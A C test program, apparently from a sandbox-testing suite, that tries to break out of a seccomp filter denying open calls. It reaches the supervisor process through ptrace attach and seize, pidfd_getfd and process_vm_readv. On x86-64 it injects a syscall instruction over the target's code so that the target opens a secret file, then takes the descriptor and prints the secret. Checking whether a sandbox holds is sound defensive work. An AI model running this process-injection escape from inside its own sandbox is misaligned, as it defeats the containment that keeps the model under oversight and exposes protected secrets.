// SPDX-License-Identifier: GPL-2.0
/*
 * parent_door.c - the door a seccomp filter leaves open: run as the command of
 * `modelab sandbox --deny open,openat,openat2`, it tries to read SECRET
 * through its parent (and through PID when given: the supervisor, seen
 * from outside), which no filter covers:
 *
 *   ptrace-attach  PTRACE_ATTACH, then (x86-64) make the target run
 *                  openat(SECRET) and take the descriptor with pidfd_getfd
 *   ptrace-seize   PTRACE_SEIZE
 *   pidfd_getfd    pidfd_open + pidfd_getfd of the target's stdin
 *   process_vm_readv  a read of the target's memory
 *
 * One line each: "NAME PID: refused (ERRNO)" or "NAME PID: went through";
 * "secret: <secret>" when the secret was read; then the verdict (attempt.h):
 * ESCAPED when a door went through.
 */
#include "attempt.h"

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static int through;

static void refused(const char *what, pid_t pid, int err)
{
	printf("%s %d: refused (%s)\n", what, (int)pid, strerrorname_np(err));
}

static void went(const char *what, pid_t pid, const char *how)
{
	printf("%s %d: went through%s%s\n", what, (int)pid, how ? ": " : "",
	       how ? how : "");
	through = 1;
}

/* Reads fd (ours now) and prints what it held. */
static void show_secret(int fd)
{
	char buf[256];
	ssize_t n = pread(fd, buf, sizeof(buf) - 1, 0);

	if (n > 0) {
		buf[n] = '\0';
		buf[strcspn(buf, "\n")] = '\0';
		printf("secret: %s\n", buf);
	}
}

#ifdef __x86_64__
/*
 * The target is stopped (attached): make it run openat(AT_FDCWD, path) by
 * writing a syscall instruction and the path over its code at rip, one
 * single step, then put back its code and registers.  Its new descriptor.
 */
static long inject_openat(pid_t pid, const char *path)
{
	struct user_regs_struct saved, r;
	unsigned long words[32], at;
	size_t n = (strlen(path) + 1 + 7) / 8 + 1;
	int st;
	long fd;

	if (n > 32 || ptrace(PTRACE_GETREGS, pid, 0, &saved))
		return -1;
	at = saved.rip;
	for (size_t i = 0; i < n; i++) {
		errno = 0;
		words[i] = ptrace(PTRACE_PEEKTEXT, pid, at + 8 * i, 0);
		if (errno)
			return -1;
	}
	for (size_t i = 0; i < n; i++) {
		unsigned long w = 0;

		if (i == 0)
			w = (words[0] & ~0xffffUL) | 0x050f;	/* syscall */
		else
			memcpy(&w, path + 8 * (i - 1),
			       strnlen(path + 8 * (i - 1), 8));
		if (ptrace(PTRACE_POKETEXT, pid, at + 8 * i, w))
			return -1;
	}
	r = saved;
	r.orig_rax = -1;	/* no restart of the call it was in */
	r.rax = SYS_openat;
	r.rdi = (unsigned long)AT_FDCWD;
	r.rsi = at + 8;
	r.rdx = O_RDONLY;
	r.r10 = 0;
	fd = -1;
	if (!ptrace(PTRACE_SETREGS, pid, 0, &r) &&
	    !ptrace(PTRACE_SINGLESTEP, pid, 0, 0) &&
	    waitpid(pid, &st, __WALL) == pid &&
	    !ptrace(PTRACE_GETREGS, pid, 0, &r))
		fd = (long)r.rax;
	for (size_t i = 0; i < n; i++)
		ptrace(PTRACE_POKETEXT, pid, at + 8 * i, words[i]);
	ptrace(PTRACE_SETREGS, pid, 0, &saved);
	return fd;
}
#endif

static void try(pid_t pid, const char *secret)
{
	long fd = -1;
	int pidfd, st;
	char buf[16];
	struct iovec local = { buf, sizeof(buf) }, remote = { (void *)1, 1 };

	if (ptrace(PTRACE_ATTACH, pid, 0, 0)) {
		refused("ptrace-attach", pid, errno);
	} else {
		went("ptrace-attach", pid, NULL);
		if (waitpid(pid, &st, __WALL) == pid) {
#ifdef __x86_64__
			fd = inject_openat(pid, secret);
#else
			(void)secret;
#endif
		}
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
	if (ptrace(PTRACE_SEIZE, pid, 0, 0)) {
		refused("ptrace-seize", pid, errno);
	} else {
		went("ptrace-seize", pid, NULL);
		ptrace(PTRACE_INTERRUPT, pid, 0, 0);
		waitpid(pid, &st, __WALL);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
	pidfd = syscall(SYS_pidfd_open, pid, 0);
	if (pidfd < 0) {
		refused("pidfd_open", pid, errno);
	} else {
		int got = syscall(SYS_pidfd_getfd, pidfd, fd >= 0 ? (int)fd : 0, 0);

		if (got < 0) {
			refused("pidfd_getfd", pid, errno);
		} else {
			went("pidfd_getfd", pid, fd >= 0 ? "the target's openat" : "its stdin");
			if (fd >= 0)
				show_secret(got);
		}
	}
	/* the access check comes first: EFAULT means it was passed */
	if (process_vm_readv(pid, &local, 1, &remote, 1, 0) < 0 &&
	    (errno == EPERM || errno == ESRCH))
		refused("process_vm_readv", pid, errno);
	else
		went("process_vm_readv", pid, errno == EFAULT ? "EFAULT at address 1: the check passed" : NULL);
}

int main(int argc, char **argv)
{
	pid_t ppid = getppid(), other;
	int fd;

	if (argc < 2 || argc > 3) {
		fprintf(stderr, "usage: escape SECRET [PID]\n");
		return 2;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	fd = open(argv[1], O_RDONLY);
	if (fd < 0) {
		printf("open %s: refused (%s)\n", argv[1], strerrorname_np(errno));
	} else {
		printf("open %s: went through\n", argv[1]);
		show_secret(fd);
		through = 1;
	}
	printf("parent: %d\n", (int)ppid);
	if (ppid > 0)
		try(ppid, argv[1]);
	other = argc == 3 ? atoi(argv[2]) : 0;
	if (other > 0 && other != ppid)
		try(other, argv[1]);
	if (through)
		ESCAPED("a door through the supervisor went through (lines above)");
	HELD("open, ptrace attach and seize, pidfd_getfd, process_vm_readv all refused");
}
